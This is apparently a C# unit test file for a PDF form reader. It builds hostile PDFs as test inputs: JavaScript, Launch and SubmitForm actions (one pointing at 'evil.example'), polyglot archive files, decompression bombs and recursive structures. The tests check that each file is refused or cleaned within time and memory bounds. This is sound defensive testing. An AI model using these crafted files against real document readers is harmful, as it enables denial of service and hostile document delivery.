using System.Diagnostics;
using System.Text;

namespace Juluo.Documents.Tests;

/// <summary>Malicious files: each is refused for the right reason, or loses its active content, in bounded time and memory.</summary>
public sealed class HostileFileTests
{
    [Fact]
    public void What_is_no_form_is_refused_for_what_it_is()
    {
        Fault("hello"u8.ToArray()).ShouldBe(PdfFault.NotPdf);
        Fault([]).ShouldBe(PdfFault.NotPdf);
        Fault([.. "MZ"u8, .. MadeForm.Usual().Bytes()]).ShouldBe(PdfFault.NotPdf);
        Fault([.. MadeForm.Usual().Bytes(), .. "<script>alert(1)</script>"u8]).ShouldBe(PdfFault.TwoFiles);
        Fault([.. MadeForm.Usual().Bytes().SkipLast(8)]).ShouldBe(PdfFault.Broken);
        Fault("%PDF-1.7\n%%EOF"u8.ToArray()).ShouldBe(PdfFault.Broken);
        Fault(new byte[PdfLimits.MostBytes + 1]).ShouldBe(PdfFault.TooLarge);
    }

    [Fact]
    public void An_archive_that_is_a_form_too_is_refused()
    {
        // An archive's last record may announce a comment, which contains the form up to its very end.
        var form = MadeForm.Usual().Bytes();
        var end = Encoding.Latin1.GetBytes("PK\u0005\u0006" + new string('\0', 16));
        var made = MadeForm.Usual();
        var rest = form.Length;
        made.Stream(20, "", [.. end, 0, 0, .. new byte[4]]);
        var bytes = made.Bytes();
        var at = bytes.AsSpan().IndexOf("PK\u0005\u0006"u8);
        var comment = bytes.Length - at - 22;
        (bytes[at + 20], bytes[at + 21]) = ((byte)comment, (byte)(comment >> 8));
        rest.ShouldBePositive();
        Fault(bytes).ShouldBe(PdfFault.TwoFiles);
    }

    [Fact]
    public void A_password_and_a_dynamic_form_are_refused()
    {
        var locked = MadeForm.Usual();
        locked.Trailer = "/Root 1 0 R /Encrypt << /Filter /Standard /V 2 >>";
        Fault(locked.Bytes()).ShouldBe(PdfFault.Encrypted);
        var dynamic = MadeForm.Usual();
        dynamic[4] = "<< /Fields [] /XFA (x) >>";
        Fault(dynamic.Bytes()).ShouldBe(PdfFault.Dynamic);
        var none = MadeForm.Usual();
        none[4] = "<< /Fields [] >>";
        Fault(none.Bytes()).ShouldBe(PdfFault.NoFields);
    }

    [Theory]
    [InlineData("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")]
    [InlineData("<< /S /Launch /F (calc.exe) >>")]
    [InlineData("<< /S /SubmitForm /F (https://evil.example) >>")]
    [InlineData("<< /S /ImportData /F (secret.fdf) >>")]
    [InlineData("<< /S /GoToR /F (other.pdf) >>")]
    public void What_acts_is_taken_out_wherever_it_stands(string action)
    {
        var made = MadeForm.Usual();
        made[1] =
            $"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R /OpenAction 20 0 R /AA << /WC 20 0 R >> /Names << /JavaScript << /Names [(a) 20 0 R] >> /EmbeddedFiles << /Names [(b) 21 0 R] >> >> >>";
        made[5] = $"<< /Type /Annot /Subtype /Widget /FT /Tx /T (Name) /Rect [50 780 300 800] /A 20 0 R /AA << /K {action} >> >>";
        made[20] = action;
        made.Stream(21, "/Type /EmbeddedFile", "MZ evil"u8.ToArray());
        var form = PdfForm.Read(made.Bytes(), out var fault);
        fault.ShouldBeNull();
        var clean = Encoding.Latin1.GetString(form!.Fill(new Dictionary<string, string>(StringComparer.Ordinal) { ["Name"] = "x" }));
        foreach (
            var word in (string[])
                ["JavaScript", "app.alert", "Launch", "calc", "SubmitForm", "evil", "ImportData", "GoToR", "/AA", "OpenAction"]
        )
        {
            clean.ShouldNotContain(word);
            clean.ShouldNotContain(Convert.ToHexString(Encoding.ASCII.GetBytes(word)));
        }
    }

    [Fact]
    public void Streams_that_expand_without_end_are_refused_before_they_fill_the_memory()
    {
        var bomb = MadeForm.Packed(new byte[300 * 1024 * 1024]);
        bomb.Length.ShouldBeLessThan(PdfLimits.MostBytes);
        var page = MadeForm.Usual();
        page.Stream(16, "/Filter /FlateDecode", bomb);
        Bounded(() => Fault(page.Bytes()).ShouldBe(PdfFault.Expands));
        var twice = MadeForm.Usual();
        twice.Stream(16, "/Filter [/FlateDecode /FlateDecode]", MadeForm.Packed(bomb));
        Bounded(() => Fault(twice.Bytes()).ShouldBe(PdfFault.Expands));
        var many = MadeForm.Usual();
        many[3] = many[3]
            .Replace(
                "/Contents 16 0 R",
                $"/Contents [{string.Join(' ', Enumerable.Range(30, 200).Select(n => $"{n} 0 R"))}]",
                StringComparison.Ordinal
            );
        var mega = MadeForm.Packed(new byte[1024 * 1024]);
        for (var n = 30; n < 230; n++)
            many.Stream(n, "/Filter /FlateDecode", mega);
        Bounded(() => Fault(many.Bytes()).ShouldBe(PdfFault.Expands));
    }

    [Fact]
    public void What_leads_back_to_itself_or_nests_without_end_is_refused()
    {
        var pages = MadeForm.Usual();
        pages[2] = "<< /Type /Pages /Kids [2 0 R] /Count 1 >>";
        Bounded(() => Fault(pages.Bytes()).ShouldBe(PdfFault.Broken));
        var fields = MadeForm.Usual();
        fields[6] = "<< /T (address) /Kids [6 0 R] >>";
        Bounded(() => Fault(fields.Bytes()).ShouldBe(PdfFault.TooDeep));
        var nested = MadeForm.Usual();
        nested[5] = $"<< /T (a) /X {new string('[', 200_000)}{new string(']', 200_000)} >>";
        Bounded(() => Fault(nested.Bytes()).ShouldBe(PdfFault.TooDeep));
        var tables = MadeForm.Usual();
        tables.Trailer = "/Root 1 0 R /Prev HERE";
        Bounded(() => Fault(tables.Bytes()).ShouldBe(PdfFault.Broken));
        var length = MadeForm.Usual();
        length[16] = "<< /Length 16 0 R >>\nstream\nx\nendstream";
        Bounded(() => Fault(length.Bytes()).ShouldBe(PdfFault.TooDeep));
    }

    [Fact]
    public void More_pages_or_fields_than_a_form_has_are_refused()
    {
        var pages = MadeForm.Usual();
        pages[2] = $"<< /Type /Pages /Kids [{string.Join(' ', Enumerable.Range(30, 70).Select(n => $"{n} 0 R"))}] /Count 70 >>";
        for (var n = 30; n < 100; n++)
            pages[n] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>";
        Fault(pages.Bytes()).ShouldBe(PdfFault.TooManyPages);
        var fields = MadeForm.Usual();
        fields[4] = $"<< /Fields [{string.Join(' ', Enumerable.Range(30, 2000).Select(n => $"{n} 0 R"))}] >>";
        for (var n = 30; n < 2030; n++)
            fields[n] = $"<< /FT /Tx /T (f{n}) /Rect [0 0 9 9] >>";
        Fault(fields.Bytes()).ShouldBe(PdfFault.TooManyObjects);
    }

    [Fact] // before: an exception of the runtime
    public void An_object_that_lies_before_the_beginning_of_its_stream_is_refused()
    {
        var bytes = Encoding.Latin1.GetString(MadeForm.Usual().Compressed());
        bytes.ShouldContain("/First ");
        var first = System.Text.RegularExpressions.Regex.Replace(bytes, "/First [0-9]+", m => $"/First {new string('9', m.Length - 7)}");
        Should.NotThrow(() => Fault(Encoding.Latin1.GetBytes(first)));
        Fault(Packed("30 2147483647 ", "<< >>", first: 100)).ShouldBe(PdfFault.Broken);
    }

    [Fact] // before: gigabytes, or hours
    public void A_small_file_that_says_one_thing_many_times_is_refused()
    {
        // Objects that are all at the same position of one stream.
        var heads = string.Concat(Enumerable.Range(30, 20_000).Select(n => $"{n} 0 "));
        Refused(Packed(heads, $"[{string.Concat(Enumerable.Repeat("0 ", 4_000_000))}]"));
        Refused(Packed("30 0 ", $"({new string('x', 80_000_000)})"));
        Refused(Packed("30 0 ", $"/{new string('x', 80_000_000)}"));
        Refused(Packed("30 0 ", $"[{string.Concat(Enumerable.Repeat($"({new string('x', 900_000)})", 60))}]"));

        // One text shared by all fields, one list of kids, one name above all.
        var text = MadeForm.Usual();
        text[20] = $"({new string('x', 900_000)})";
        Many(text, n => $"<< /FT /Tx /T (f{n}) /V 20 0 R /TU 20 0 R /Rect [0 0 9 9] >>");
        var textFile = text.Bytes();
        Bounded(() => Fault(textFile).ShouldBe(PdfFault.TooManyObjects));
        var kids = MadeForm.Usual();
        kids[20] = $"[{string.Concat(Enumerable.Repeat("null ", 400_000))}]";
        Many(kids, _ => "<< /Kids 20 0 R >>");
        var kidsFile = kids.Bytes();
        Bounded(() => Fault(kidsFile).ShouldBe(PdfFault.TooManyObjects));
        var named = MadeForm.Usual();
        Many(named, n => $"<< /FT /Tx /T (f{n}) >>");
        named[6] = $"<< /T ({new string('x', 900_000)}) /Kids [{string.Join(' ', Enumerable.Range(30, 1400).Select(n => $"{n} 0 R"))}] >>";
        named[4] = "<< /Fields [5 0 R 6 0 R] >>";
        var namedFile = named.Bytes();
        Bounded(() => Fault(namedFile).ShouldBeNull());
        var states = MadeForm.Usual();
        states[20] = $"<< {string.Concat(Enumerable.Range(0, 60_000).Select(n => $"/S{n} 14 0 R "))} >>";
        Many(states, n => $"<< /FT /Btn /T (f{n}) /Kids [{string.Concat(Enumerable.Repeat("21 0 R ", 150))}] >>");
        states[21] = "<< /AP << /N 20 0 R >> >>";
        var statesFile = states.Bytes();
        Bounded(() => Fault(statesFile).ShouldBe(PdfFault.TooManyObjects));
    }

    [Fact] // before: a text of 40 MB was taken, and could not be filled in
    public void A_form_that_grows_beyond_the_limit_when_it_is_unpacked_is_refused()
    {
        var objects = string.Concat(Enumerable.Repeat($"({new string('x', 400_000)})", 40));
        Fault(Packed("30 0 ", $"[{objects}]")).ShouldBe(PdfFault.TooLarge);
    }

    [Fact] // before: as long as the square of its length
    public void A_search_for_the_identifier_of_a_locked_file_ends()
    {
        const string Locked = "\n<< /Filter /Standard /R 3 /V 2 /O <00> /U <00> >>";
        foreach (var again in (string[])["/ID[(", "/ID%", "/ID[<<", "/ID[[/ID"])
        {
            var file = Encoding.Latin1.GetBytes($"%PDF-1.4\n/Encrypt{Locked}{string.Concat(Enumerable.Repeat(again, 2_000_000))}");
            Bounded(() => PdfPassword.IsAsked(file).ShouldBeTrue());
        }
    }

    private static void Refused(byte[] file)
    {
        file.Length.ShouldBeLessThan(PdfLimits.MostBytes);
        Bounded(() => Fault(file).ShouldNotBeNull());
    }

    private static void Many(MadeForm form, Func<int, string> field)
    {
        form[4] = $"<< /Fields [{string.Join(' ', Enumerable.Range(30, 1400).Select(n => $"{n} 0 R"))}] >>";
        for (var n = 30; n < 1430; n++)
            form[n] = field(n);
    }

    /// <summary>A form with an object stream of which the page needs the 30th object.</summary>
    private static byte[] Packed(string heads, string body, int? first = null)
    {
        var made = MadeForm.Usual();
        var count = heads.Count(c => c == ' ') / 2;
        made[3] = made[3]
            .Replace(
                "/Resources << >>",
                $"/Resources [{string.Join(' ', Enumerable.Range(30, count).Select(n => $"{n} 0 R"))}]",
                StringComparison.Ordinal
            );
        made.Stream(
            20,
            $"/Type /ObjStm /N {count} /First {first ?? heads.Length} /Filter /FlateDecode",
            MadeForm.Packed(Encoding.Latin1.GetBytes(heads + body))
        );
        // The table below lists what the table of the form does not: objects within the stream.
        var bytes = made.Bytes();
        var table = bytes.AsSpan().LastIndexOf("xref\n0"u8);
        var rows = new byte[(30 + count) * 6];
        foreach (var (n, place) in made.Numbers.Select(n => (n, bytes.AsSpan().IndexOf(Encoding.Latin1.GetBytes($"\n{n} 0 obj\n")) + 1)))
            Row(n, 1, place, 0);
        for (var n = 0; n < count; n++)
            Row(30 + n, 2, 20, n);
        var stream = $"99999 0 obj\n<< /Type /XRef /Size {30 + count} /W [1 3 2] /Root 1 0 R /Length {rows.Length} >>\nstream\n";
        return
        [
            .. bytes[..table],
            .. Encoding.Latin1.GetBytes(stream),
            .. rows,
            .. Encoding.Latin1.GetBytes($"\nendstream\nendobj\nstartxref\n{table}\n%%EOF\n"),
        ];

        void Row(int number, byte kind, int where, int index) =>
            new byte[] { kind, (byte)(where >> 16), (byte)(where >> 8), (byte)where, (byte)(index >> 8), (byte)index }.CopyTo(
                rows,
                number * 6
            );
    }

    [Fact] // Each byte changed, and each end cut off: a sentence or a form, and never another exception.
    public void Damage_anywhere_is_a_sentence_or_a_form()
    {
        foreach (var whole in new[] { MadeForm.Usual().Bytes(), MadeForm.Usual().Compressed() })
        {
            for (var i = 0; i < whole.Length; i += 11)
            {
                Should.NotThrow(() => PdfForm.Read(whole[..i], out _));
                var other = whole.ToArray();
                other[i] ^= (byte)(1 << (i % 8));
                Should.NotThrow(() =>
                    PdfForm.Read(other, out _)?.Fill(new Dictionary<string, string>(StringComparer.Ordinal) { ["Name"] = "王" })
                );
            }
        }
    }

    private static PdfFault? Fault(byte[] bytes)
    {
        PdfForm.Read(bytes, out var fault);
        return fault;
    }

    // The processor time of this thread alone is not available; a busy machine gets twenty seconds for work that takes less than one.
    private static void Bounded(Action read)
    {
        var (before, watch) = (GC.GetAllocatedBytesForCurrentThread(), Stopwatch.StartNew());
        read();
        watch.Elapsed.ShouldBeLessThan(TimeSpan.FromSeconds(20));
        (GC.GetAllocatedBytesForCurrentThread() - before).ShouldBeLessThan(1024L * 1024 * 1024);
    }
}
